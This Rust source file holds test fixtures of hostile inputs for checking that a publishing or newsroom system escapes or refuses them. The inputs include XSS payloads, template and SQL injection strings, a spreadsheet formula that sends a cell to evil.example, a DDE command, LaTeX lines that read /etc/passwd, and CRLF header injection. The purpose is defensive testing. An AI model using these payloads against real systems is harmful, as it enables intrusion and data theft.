//! Words that mean something to whatever reads them: markup, scripts, templates,
//! queries, spreadsheets, terminals, headers, and eyes.

/// Words that are let in, since a newsroom may have to write them, and must mean
/// nothing anywhere: what they are, and the words.
pub(crate) const LET_IN: [(&str, &str); 12] = [
    (
        "markup",
        "x\"'><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>",
    ),
    (
        "ends of places",
        "</textarea></title></style></script><script>alert(4)</script>]]>--><!--",
    ),
    (
        "attributes",
        "\" autofocus onfocus=alert(5) x=\"' onmouseover='alert(6)",
    ),
    (
        "addresses",
        "<a href=javascript:alert(7)>y</a> <a href=\"data:text/html,<script>alert(8)</script>\">z</a>",
    ),
    (
        "style",
        "<style>@import 'https://evil.example/x.css';</style><p style=\"background:url(https://evil.example/)\">",
    ),
    (
        "frames",
        "<iframe srcdoc=\"<script>alert(9)</script>\"></iframe><base href=https://evil.example/><object data=x>",
    ),
    (
        "templates",
        "{{1234*4321}} ${1234*4321} #{1234*4321} <%= 1234*4321 %> {% raw %} `1`",
    ),
    (
        "queries",
        "'); DROP TABLE claim; -- \" OR NEAR(a b) NOT * ^ statement:x {a b} + -",
    ),
    (
        "formula",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")+cmd|' /C calc'!A0",
    ),
    (
        "entities",
        "&lt;script&gt;alert(10)&lt;/script&gt; &#x3c;img src=x&#x3e; &amp;",
    ),
    (
        "letters",
        "\u{2067}\u{5d1}\u{5e8}\u{5d5}\u{5da}\u{2069} \u{430}\u{440}\u{440}\u{4cf}\u{435}.example e\u{301}\u{301}\u{301} \u{fdfd} \u{1d54f} z\u{fffe}",
    ),
    (
        "bibliography",
        "} @book{x, author = {a}, \\input{/etc/passwd} \\write18{x} % $ & # _ ~ ^",
    ),
];

/// Some of them in one, for every field of every form.
pub(crate) const ALL_IN_ONE: &str = "=1+1 x\"'><script>alert(1)</script><img src=x onerror=alert(2)> {{1234*4321}} '); DROP TABLE claim; -- \" OR NEAR(";

/// Words that mean nothing but themselves.
pub(crate) const PLAIN: &str = "The bridge opened in 1932.";

/// Words of a source, which is kept as it is: with commands to a terminal, an
/// override of direction, and characters that XML has no way to write.
pub(crate) const CONTROLS: &str =
    "The \u{202e}bridge\u{202c} \u{1b}[31mopened\u{7} in\u{b} 1932\u{fffe}.";

/// Words that no field of one line takes: what they are, and the words.
pub(crate) const REFUSED: [(&str, &str); 7] = [
    ("an override", "Not \u{202e}true\u{202c} at all"),
    ("a nought byte", "Not\0true"),
    ("a terminal's command", "Not \u{1b}[31mtrue"),
    ("a second header", "Not\r\nSet-Cookie: stolen=1\r\n\r\ntrue"),
    ("a backspace", "True\u{8}\u{8}\u{8}\u{8}False"),
    ("a line's end of Unicode", "Not\u{2028}true"),
    ("a next line", "Not\u{85}true"),
];

/// An address with all that in it.
pub(crate) const ADDRESS: &str = "https://evil.example/\"><script>alert(11)</script>?x='onmouseover=alert(12)&y={{1234*4321}}#\u{5d1}";

/// Addresses that lead to no page.
pub(crate) const NO_ADDRESS: [&str; 6] = [
    "javascript:alert(13)",
    "data:text/html,<script>alert(14)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    "\u{1}javascript:alert(15)",
];

/// What a template would make of its sum.
pub(super) const SUM: &str = "5332114";

/// What no field takes, with a word by which it would be found: an override, a
/// terminal's command, a nought byte.
pub(crate) const NEVER: &str = "Xipe\u{202e}Totec \u{1b}[31m\0";

/// A second header, and a page behind it.
pub(crate) const SECOND_HEADER: &str =
    "Xipe\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(16)</script>";

/// What is longer than any field but a document may be, and opens without end.
pub(crate) fn long_and_deep() -> String {
    "([{<b>> - ".repeat(4_000)
}
